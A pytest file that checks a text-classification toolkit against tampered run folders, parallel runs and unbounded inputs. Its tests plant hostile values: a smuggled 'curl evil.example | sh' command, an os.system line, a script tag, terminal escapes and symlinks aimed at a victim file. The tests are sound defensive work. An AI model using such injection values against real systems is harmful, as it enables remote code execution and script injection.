"""Issue 17: hostile run folders, parallel runs, unbounded inputs. One test (or more) per
numbered case of the reliability probe; real files, real symlinks, real processes."""

from __future__ import annotations

import http.client
import json
import os
import random
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
import torch
from safetensors.torch import load_file, save_file

import toolkit
from toolkit.limits import MAX_RUN_FILE_BYTES, cpu_count
from toolkit.rundir import CLAIM

TINY = ["-p", "train.threads=1", "-p", "model.hidden_size=8", "-p", "train.epochs=1"]


def write_tiny_folder(folder: Path, long_line: str = "") -> Path:
    """Three classes told apart by their letters, 40 texts each."""
    rng = random.Random(0)
    folder.mkdir()
    for label, letters in (("first", "abcdefgh"), ("second", "ijklmnop"), ("third", "qrstuvwx")):
        lines = ["".join(rng.choices(letters, k=rng.randint(3, 9))) for _ in range(40)]
        if long_line and label == "first":
            lines.append(long_line)
        (folder / f"{label}.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@pytest.fixture
def tiny_data(tmp_path) -> Path:
    return write_tiny_folder(tmp_path / "data")


def tiny_run_args(data: Path, *extra: str) -> list[str]:
    return ["run", "--dataset", "folder", "-p", f"dataset.data_dir={data}", *TINY, *extra]


def one_line_error(result, *needles: str) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]


# 1. `toolkit report` never writes through a symlink; text from the folder is escaped.

def test_report_replaces_planted_symlinks_and_never_writes_through_them(cli, trained_run, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    planted = [".report.html.tmp", "report.html", "loss.png", "per_class.md", ".loss.png.tmp"]
    for name in planted:
        (evil / name).unlink(missing_ok=True)
        (evil / name).symlink_to(victim)
    result = cli(["report", str(evil)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious\n"  # unchanged
    for name in ("report.html", "loss.png", "per_class.md"):
        assert not (evil / name).is_symlink() and (evil / name).is_file()
    assert not [p for p in evil.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]


def test_newlines_and_escapes_from_a_run_folder_reach_no_file_or_terminal(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    config = json.loads((evil / "config.json").read_text())
    config["provenance"]["source"] = "x\nimport os; os.system('touch pwned')\n<script>alert(1)</script>"
    (evil / "config.json").write_text(json.dumps(config))
    for table in ("per_class.csv", "confusion.csv"):  # a class name with an escape and a newline
        frame = pd.read_csv(evil / table, index_col=0, keep_default_na=False)
        evil_name = "Ara\x1b[2Jbic\nimport os"
        frame = frame.rename(index={"Arabic": evil_name}, columns={"Arabic": evil_name})
        frame.to_csv(evil / table)
    result = cli(["report", str(evil)])
    assert result.exit_code == 0, result.output
    page = (evil / "report.html").read_text()
    assert not [line for line in page.splitlines() if line.startswith("import")]
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "\x1b" not in result.stdout and "\x1b" not in page
    markdown = (evil / "per_class.md").read_text().splitlines()
    assert not [line for line in markdown if line.startswith("import")]


# 2. Parallel runs: the folder is claimed before training; a second process is refused at once.

@pytest.mark.slow
def test_a_second_run_on_the_same_output_is_refused_at_once_and_sigterm_leaves_nothing(tiny_data, tmp_path):
    output = tmp_path / "shared-output"
    long_run = tiny_run_args(tiny_data, "-p", "train.epochs=10000", "-o", str(output))
    first = subprocess.Popen(
        [sys.executable, "-m", "toolkit", *long_run],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while not (output / CLAIM).exists():
            assert first.poll() is None, first.communicate()
            assert time.monotonic() < deadline, "the first run never claimed its folder"
            time.sleep(0.05)
        others = [
            subprocess.Popen([sys.executable, "-m", "toolkit", *tiny_run_args(tiny_data, "-o", str(output))],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)
        ]
        for other in others:
            _, err = other.communicate(timeout=120)
            assert other.returncode == 2, err
            assert "being written by another toolkit run" in err and "Traceback" not in err
        assert first.poll() is None  # refused while the first one is still training
        first.send_signal(signal.SIGTERM)
        first.communicate(timeout=60)
        assert first.returncode == 143
        assert not output.exists()  # nothing half-written, no hidden staging folder
        assert list(tmp_path.iterdir()) == [tiny_data]
    finally:
        first.kill()


@pytest.mark.slow
def test_runs_started_together_get_their_own_default_folders(tiny_data, tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    processes = [
        subprocess.Popen([sys.executable, "-m", "toolkit", *tiny_run_args(tiny_data)], cwd=work,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(3)
    ]
    for process in processes:
        _, err = process.communicate(timeout=300)
        assert process.returncode == 0, err
    folders = sorted((work / "runs").iterdir())
    assert len(folders) == 3 and len({f.name for f in folders}) == 3
    for folder in folders:
        assert (folder / "config.json").is_file() and not (folder / CLAIM).exists()
        assert not [p for p in folder.iterdir() if p.name.startswith(".")]


# 3. --output is checked before training.

def test_output_under_a_file_is_refused_before_training(cli, tiny_data, tmp_path):
    blocker = tmp_path / "existing-file"
    blocker.write_text("x")
    result = cli(tiny_run_args(tiny_data, "-o", str(blocker / "sub")))
    one_line_error(result, "is a file, not a folder")
    assert "Trained" not in result.stdout
    result = cli(tiny_run_args(tiny_data, "-o", str(blocker)))
    one_line_error(result, "exists and is not a folder")
    assert blocker.read_text() == "x"


@pytest.fixture
def immutable(tmp_path):
    """Make a folder unwritable even for root (`chattr +i`); undone after the test."""
    made: list[Path] = []

    def make(folder: Path) -> Path:
        if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(folder)]).returncode:
            pytest.skip("chattr +i is not available here (needed to make a folder unwritable for root)")
        made.append(folder)
        return folder

    yield make
    for folder in made:
        subprocess.run(["chattr", "-i", str(folder)], check=True)


def test_an_unwritable_output_parent_is_refused_before_training(cli, tiny_data, tmp_path, immutable):
    (tmp_path / "locked").mkdir()
    parent = immutable(tmp_path / "locked")
    result = cli(tiny_run_args(tiny_data, "-o", str(parent / "run")))
    one_line_error(result, "cannot create output", "choose a writable --output")
    assert "Trained" not in result.stdout


def test_report_on_a_read_only_folder_is_one_line(cli, trained_run, tmp_path, immutable):
    folder = immutable(shutil.copytree(trained_run.run_dir, tmp_path / "copy"))
    one_line_error(cli(["report", str(folder)]), "cannot write", "Operation not permitted")


# 4. Text length: cut at training and prediction, and counted.

def test_a_huge_line_is_cut_at_training_and_prediction(cli, tmp_path):
    data = write_tiny_folder(tmp_path / "data", long_line="abc" * 40_000)
    result = cli(tiny_run_args(data, "-o", str(tmp_path / "run")))
    assert result.exit_code == 0, result.output
    assert "1 texts were longer than 256 characters" in result.stdout
    metrics = json.loads((tmp_path / "run" / "metrics.json").read_text())
    assert metrics["training"]["truncated_texts"] == 1
    texts = tmp_path / "texts.txt"
    texts.write_text("abcabc\n" + "q" * 100_000 + "\n")
    out = tmp_path / "out.csv"
    result = cli(["predict", "--run", str(tmp_path / "run"), "--input", str(texts), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "1 text was longer than 256 characters and cut to that length" in result.stderr
    assert len(out.read_text().splitlines()) == 3


# 5, 7, 12. Bounds on threads, epochs, sizes and seeds: one line, exit 2, at once.

@pytest.mark.parametrize(("args", "needle"), [
    (["-p", "train.threads=100000"], f"parameter 'threads' must be at least 0 and at most {cpu_count()}"),
    (["-p", "train.epochs=1000000000"], "parameter 'epochs' must be at least 1 and at most 10,000"),
    (["-p", "train.examples=10000000000"], "parameter 'examples' must be at least 0 and at most"),
    (["-p", "train.max_length=0"], "the trainer parameter 'max_length' must be at least 1"),
    (["-p", "model.hidden_size=1000000000"], "parameter 'hidden_size' must be at least 1 and at most 4,096"),
    (["--seed", "-5"], "the seed must be between 0 and"),
    (["--seed", str(10**23)], "the seed must be between 0 and"),
])
def test_out_of_bounds_parameters_are_one_line(cli, tiny_data, tmp_path, args, needle):
    started = time.monotonic()
    result = cli(tiny_run_args(tiny_data, "-o", str(tmp_path / "run"), *args))
    one_line_error(result, needle)
    assert time.monotonic() - started < 60
    assert not (tmp_path / "run").exists()  # the claim was given back


def test_seed_that_is_not_an_integer_is_a_usage_error(cli, tiny_data):
    result = cli(tiny_run_args(tiny_data, "--seed", "1e23"))
    assert result.exit_code == 2 and "Traceback" not in result.output


def test_prediction_threads_are_bounded(cli, trained_run):
    result = cli(["predict", "--run", str(trained_run.run_dir), "--threads", "100000", "Hinton"])
    one_line_error(result, f"between 1 and {cpu_count()}")


# 6. A tampered config.json is checked against the weights' header before any model is built.

def tampered_copy(run_dir: Path, folder: Path, hidden_size: int) -> Path:
    evil = shutil.copytree(run_dir, folder)
    config = json.loads((evil / "config.json").read_text())
    config["model"]["params"]["hidden_size"] = hidden_size
    (evil / "config.json").write_text(json.dumps(config))
    return evil


def test_tampered_sizes_are_refused(trained_run, tmp_path):
    evil = tampered_copy(trained_run.run_dir, tmp_path / "evil", 4096)  # allowed, but not the weights'
    with pytest.raises(toolkit.ToolkitError, match=r"do not fit the model in its config \(wrong shape"):
        toolkit.load_run(evil)
    evil = tampered_copy(trained_run.run_dir, tmp_path / "evil2", 10**12)
    too_wide = "'hidden_size' must be at least 1 and at most 4,096; got 1,000,000,000,000"
    with pytest.raises(toolkit.ToolkitError, match=too_wide):
        toolkit.load_run(evil)


@pytest.mark.slow
def test_tampered_sizes_are_refused_before_the_model_is_allocated(trained_run, tmp_path):
    evil = tampered_copy(trained_run.run_dir, tmp_path / "evil", 4096)
    # The peak is read by a small wrapper process that starts `toolkit predict` itself: a child
    # forked straight from this (large) test process would report this process's size as its
    # own peak, since Linux carries the high-water mark of the forked memory across exec.
    wrapper = (
        "import os, subprocess, sys; p = subprocess.Popen(sys.argv[1:], stderr=subprocess.PIPE, text=True); "
        "_, status, usage = os.wait4(p.pid, 0); sys.stderr.write(p.stderr.read()); "
        "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)"
    )
    result = subprocess.run(
        [sys.executable, "-c", wrapper, sys.executable, "-m", "toolkit", "predict", "--run", str(evil),
         "Hinton"],
        capture_output=True, text=True,
    )
    exit_code, peak_kib = map(int, result.stdout.split())
    assert exit_code == 2, result.stderr
    assert "do not fit the model in its config (wrong shape" in result.stderr
    # A bidirectional GRU of 4,096 units is about 400 MB of weights; none of it was allocated.
    assert peak_kib < 700 * 1024, peak_kib


# 8. Run-folder JSON is bounded in size and depth.

def test_a_huge_sparse_json_file_is_refused_without_reading_it(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    with (evil / "labels.json").open("wb") as labels:
        labels.truncate(5 * 2**30)  # 5 GB, sparse: nothing on disk
    started = time.monotonic()
    result = cli(["predict", "--run", str(evil), "Hinton"])
    one_line_error(result, "labels.json' has 5,368,709,120 bytes", f"at most {MAX_RUN_FILE_BYTES:,}")
    assert time.monotonic() - started < 30


def test_deeply_nested_json_is_one_line(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    (evil / "metrics.json").write_text("[" * 100_000 + "]" * 100_000)
    one_line_error(cli(["report", str(evil)]), "nests JSON more than 64 levels deep")
    (evil / "encoder.json").write_text('{"a":' * 70 + "1" + "}" * 70)
    one_line_error(cli(["predict", "--run", str(evil), "Hinton"]), "more than 64 levels deep")


# 9. An interrupted run says so where a user looks first.

def test_an_interrupted_run_is_marked_and_exits_130(cli, tiny_data, tmp_path, monkeypatch):
    from toolkit import training

    original = training._Loop.run_epoch

    def press_ctrl_c_in_epoch_2(self, epoch, batches, report):
        if epoch == 2:
            raise KeyboardInterrupt
        return original(self, epoch, batches, report)

    monkeypatch.setattr(training._Loop, "run_epoch", press_ctrl_c_in_epoch_2)
    result = cli(tiny_run_args(tiny_data, "-p", "train.epochs=3", "-o", str(tmp_path / "run")))
    assert result.exit_code == 130, result.output
    assert result.stdout.startswith("INTERRUPTED: 1 of 3 epochs completed")
    assert "interrupted in epoch 2 of 3" in result.stderr
    metrics = json.loads((tmp_path / "run" / "metrics.json").read_text())
    assert metrics["training"]["interrupted"] is True
    assert (metrics["training"]["epochs_completed"], metrics["training"]["epochs_planned"]) == (1, 3)
    page = (tmp_path / "run" / "report.html").read_text()
    assert "<title>Interrupted: run: scratch-rnn on folder (1 of 3 epochs completed)</title>" in page


# 10. A UTF-8 BOM (Excel's CSVs) is not part of the first column's name.

def test_a_csv_with_a_bom_is_read(cli, trained_run, tmp_path):
    table = tmp_path / "excel.csv"
    table.write_bytes("\ufefftext,id\nHinton,1\nNakamura,2\n".encode())
    result = cli(["predict", "--run", str(trained_run.run_dir), "--input", str(table), "--column", "text"])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1].startswith("Hinton,")


# 11. Non-finite numbers in a request are a 422, and the connection stays usable.

def test_non_finite_top_is_422_and_keeps_the_connection(trained_run):
    import socket
    import threading

    import uvicorn

    from toolkit.server import create_app

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(toolkit.load_run(trained_run.run_dir)),
                                           host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.05)
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        for body in (b'{"names": ["Hinton"], "top": 1e400}', b'{"names": ["Hinton"], "top": NaN}',
                     b'{"names": ["Hinton"], "top": 2}', b'{"names": ["\\ud83d\\ude00"]}'):
            connection.request("POST", "/predict", body=body, headers={"Content-Type": "application/json"})
            response = connection.getresponse()
            answer = json.loads(response.read())
            if b"Hinton" in body and b"top\": 2" not in body:
                assert response.status == 422 and answer["detail"][0]["loc"][-1] == "top"
            elif b"Hinton" in body:
                assert response.status == 200 and len(answer["results"][0]["predictions"]) == 2
            else:
                assert response.status == 422 and "normalisation" in answer["detail"]
        connection.close()
    finally:
        server.should_exit = True
        thread.join(timeout=10)


# 12. Tracebacks that became one line.

def test_predict_output_problems_are_found_before_predicting(cli, trained_run, tmp_path):
    names = tmp_path / "names.txt"
    names.write_text("Hinton\n")
    for output, needle in ((tmp_path, "is a folder"), (tmp_path / "missing" / "out.csv", "does not exist")):
        result = cli(["predict", "--run", str(trained_run.run_dir), "--input", str(names), "-o", str(output)])
        one_line_error(result, needle)


def test_predict_output_replaces_a_symlink_instead_of_following_it(cli, trained_run, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    names = tmp_path / "names.txt"
    names.write_text("Hinton\n")
    output = tmp_path / "out.csv"
    output.symlink_to(victim)
    result = cli(["predict", "--run", str(trained_run.run_dir), "--input", str(names), "-o", str(output)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious\n" and not output.is_symlink()
    assert output.read_text().startswith("input,predicted")


def test_report_on_a_malformed_history_is_one_line(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    (evil / "history.csv").write_text("epoch,train_loss,val_loss\n1,not-a-number,\n")
    one_line_error(cli(["report", str(evil)]), "malformed table")
    (evil / "history.csv").write_text('"\n')
    one_line_error(cli(["report", str(evil)]), "malformed table")


# 13. The rest of the probe's findings.

def test_every_file_of_a_run_has_the_same_permissions(trained_run):
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in trained_run.run_dir.iterdir()}
    assert len(set(modes.values())) == 1, modes
    assert modes["model.safetensors"] == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_an_untrusted_folder_cannot_dictate_pip_advice(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    config = json.loads((evil / "config.json").read_text())
    config["model"].update(name="nonexistent", distribution="x; curl evil.example | sh")
    (evil / "config.json").write_text(json.dumps(config))
    result = cli(["predict", "--run", str(evil), "Hinton"])
    one_line_error(result, "invalid name")
    assert "pip install" not in result.stderr
    config["model"]["distribution"] = "toolkit-charcnn"  # a valid name is still the folder's choice
    (evil / "config.json").write_text(json.dumps(config))
    result = cli(["predict", "--run", str(evil), "Hinton"])
    one_line_error(result, "from the plugin distribution 'toolkit-charcnn', as its config.json records")
    assert "pip install" not in result.stderr and "from a source you trust" in result.stderr
    # `toolkit rerun` names the distribution too, instead of only an unknown model
    result = cli(["rerun", str(evil), "--output", str(tmp_path / "again")])
    one_line_error(result, "from the plugin distribution 'toolkit-charcnn', as its config.json records")
    assert not (tmp_path / "again").exists()


def test_names_with_nothing_left_after_normalisation_get_no_prediction(cli, trained_run, tmp_path):
    result = cli(["predict", "--run", str(trained_run.run_dir), "Hinton", "\U0001F600"])
    one_line_error(result, "is left after the run's normalisation")
    texts = tmp_path / "texts.txt"
    texts.write_text("Hinton\n\U0001F600\x00\n", encoding="utf-8")
    result = cli(["predict", "--run", str(trained_run.run_dir), "--input", str(texts)])
    assert result.exit_code == 0, result.output
    rows = result.stdout.splitlines()
    assert rows[2].split(",")[1:3] == ["", ""]  # no class, no probability
    predictor = toolkit.load_run(trained_run.run_dir)
    assert predictor.predict(["\U0001F600"])[0].guesses == ()


def test_non_finite_weights_are_refused(cli, trained_run, tmp_path):
    evil = shutil.copytree(trained_run.run_dir, tmp_path / "evil")
    weights = load_file(evil / "model.safetensors")
    first = sorted(weights)[0]
    weights[first] = torch.full_like(weights[first], float("nan"))
    save_file(weights, evil / "model.safetensors")
    result = cli(["predict", "--run", str(evil), "--json", "Hinton"])
    one_line_error(result, "NaN or infinite values")
